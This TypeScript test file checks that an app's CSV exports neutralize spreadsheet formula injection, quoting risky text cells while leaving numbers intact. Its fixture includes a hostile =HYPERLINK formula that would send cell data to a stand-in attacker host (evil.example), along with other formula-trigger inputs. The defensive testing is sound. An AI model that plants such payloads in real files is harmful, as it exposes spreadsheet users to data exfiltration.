/**
 * CSV formula neutralizing (OWASP CSV injection) in every CSV the app and `segbook run` write:
 * seg.export on the wasm and native engines (byte-identical), the grid's Download of a DuckDB table
 * and of an in-memory table. Text is neutralized, numbers stay numbers, `formulas: "keep"` opts out.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Engine } from "../../src/engine/engine.ts";
import { createNativeEngine } from "../../src/engine/native.ts";
import { createNodeEngine } from "../../src/engine/node.ts";
import { createCellDb } from "../../src/runtime/cell-db.ts";
import { csvCell, neutralizeFormula } from "../../src/seg/export-encode.ts";
import { exportSegments, type ExportSink } from "../../src/seg/export.ts";
import { csvBlob } from "../../src/ui/grid/engine-grid-source.ts";
import { objectsGridSource } from "../../src/ui/grid/memory-grid-source.ts";

const HOSTILE = `SELECT * FROM (VALUES
  (1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', -3.5::DOUBLE, -2::INTEGER),
  (2, '+1+1', 0.5::DOUBLE, 3::INTEGER),
  (3, '-2+3', -0.25::DOUBLE, -7::INTEGER),
  (4, '@SUM(A1:A2)', 1.0::DOUBLE, 0::INTEGER),
  (5, chr(9) || '=1+1', 2.0::DOUBLE, 1::INTEGER),
  (6, chr(13) || '=1+1', 2.0::DOUBLE, 1::INTEGER),
  (7, 'plain = text', -1e-7::DOUBLE, -1::INTEGER),
  (8, '-3.5', NULL, NULL)
) AS t(id, note, score, delta)`;

const EXPECTED_NEUTRALIZED = [
  "id,note,score,delta",
  `1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-3.5,-2`,
  "2,'+1+1,0.5,3",
  "3,'-2+3,-0.25,-7",
  "4,'@SUM(A1:A2),1.0,0",
  "5,'\t=1+1,2.0,1",
  `6,"'\r=1+1",2.0,1`,
  "7,plain = text,-1e-07,-1",
  "8,'-3.5,,",
  "",
].join("\n");

function memorySink(): ExportSink {
  return { accept: async (prepared) => prepared };
}

let wasm: Engine;
let native: Engine;

beforeAll(async () => {
  [wasm, native] = await Promise.all([createNodeEngine(), createNativeEngine({ threads: 1 })]);
});

afterAll(async () => {
  await Promise.all([wasm?.close(), native?.close()]);
});

async function exportText(engine: Engine, options: { formulas?: "keep" | "neutralize" } = {}) {
  const ctx = { db: createCellDb(engine).db, seed: 1, sink: memorySink() };
  const table = await ctx.db.query(HOSTILE);
  const result = await exportSegments(ctx, table, { file: "notes.csv", ...options });
  return { text: new TextDecoder().decode(result.file.bytes), manifest: result.manifest };
}

describe("neutralizeFormula(text) and csvCell(value, type)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@x", "'@x"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["a=1", "a=1"],
    ["", ""],
  ])("neutralizeFormula(%j) is %j", (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });

  it("csvCell keeps numbers of numeric columns and neutralizes text columns unless 'keep'", () => {
    expect(csvCell("-3.5", "DOUBLE")).toBe("-3.5");
    expect(csvCell("-3", "DECIMAL(9,2)")).toBe("-3");
    expect(csvCell("-3.5", "VARCHAR")).toBe("'-3.5");
    expect(csvCell("=1+1", "VARCHAR", "keep")).toBe("=1+1");
    expect(csvCell(null, "VARCHAR")).toBe("");
  });
});

describe("exportSegments(ctx, table, 'x.csv') formulas", () => {
  it("neutralizes formula-like text by default, numbers stay numbers, byte-identical on wasm and native", async () => {
    const [fromWasm, fromNative] = [await exportText(wasm), await exportText(native)];
    expect(fromWasm.text).toBe(EXPECTED_NEUTRALIZED);
    expect(fromNative.text).toBe(fromWasm.text);
    expect(fromWasm.manifest.formulas).toBe("neutralize");
  });

  it("formulas: 'keep' writes text as it is and records the choice", async () => {
    const { text, manifest } = await exportText(wasm, { formulas: "keep" });
    expect(text.split("\n")[1]).toBe(`1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-3.5,-2`);
    expect(text.split("\n")[8]).toBe("8,-3.5,,");
    expect(manifest.formulas).toBe("keep");
  });

  it("an unknown formulas value is a clear error", async () => {
    await expect(exportText(wasm, { formulas: "strip" as "keep" })).rejects.toThrow(
      /formulas must be "neutralize" \(the default\) or "keep"/,
    );
  });
});

describe("grid Download as CSV", () => {
  it("csvBlob(engine, table, columns) neutralizes text as seg.export does", async () => {
    const table = await createCellDb(wasm).db.query(HOSTILE);
    const text = await (await csvBlob(wasm, table.name, table.columns)).text();
    expect(text).toBe(EXPECTED_NEUTRALIZED);
  });

  it("objectsGridSource(rows).open(view).download('csv') neutralizes strings, not numbers", async () => {
    const source = objectsGridSource([
      { note: "=1+1", score: -3.5 },
      { note: "ok", score: 1 },
      { note: "-2", score: 2 },
    ]);
    const result = await source.open({ filters: {} });
    const text = await (await result.download("csv")).text();
    expect(text).toBe("note,score\n'=1+1,-3.5\nok,1\n'-2,2\n");
  });
});
